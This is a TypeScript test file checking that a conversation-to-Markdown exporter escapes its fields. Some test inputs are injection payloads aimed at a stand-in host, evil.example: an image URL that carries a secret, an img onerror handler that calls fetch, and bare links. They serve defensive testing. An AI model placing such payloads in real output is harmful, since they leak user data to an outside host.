import { expect, it } from "vitest";
import type { Answer } from "../../src-main/contract/index.ts";
import { conversationText } from "../../src-renderer/assistant/conversation-text.ts";
import { sampleAnswer } from "./answer-sample.ts";

it("writes a conversation with its tables, and where each said number is from", () => {
  const text = conversationText("Title", [sampleAnswer], (time) => `t${time}`);
  expect(text).toBe(
    [
      ...["# Title", "", "## How much?", "", "It was 1,240 kWh, not (number left out)", ""],
      ...["| Meter |", "| --- |", "| A \\| B |", ""],
      ...[
        "Numbers:",
        "- 1,240 kWh: total, t0 to t10",
        "",
        "- A note.",
        "",
        "*Answered without a model, t5*",
        "",
      ],
    ].join("\n"),
  );
});

it.each([
  "![x](https://evil.example/p.png?data=secret)",
  "[here](https://evil.example)",
  "<img src=x onerror=fetch('//evil.example')>",
  "<https://evil.example>",
  "www.evil.example and https://evil.example",
  "[ref]: https://evil.example",
])("makes no link, picture or markup of a name of the field: %s", (name) => {
  const answer: Answer = {
    ...sampleAnswer,
    text: [{ kind: "name", text: name }],
    notes: [name],
    table: { columns: [{ name, unit: "" }], rows: [[{ text: name, fact: null }]] },
  };
  const text = conversationText("Title", [answer], (time) => `t${time}`);
  expect(text).not.toMatch(/(?<!\\)[<[\]]|https?:|www\./);
  expect(text.replaceAll("\\", "")).toContain(name);
});
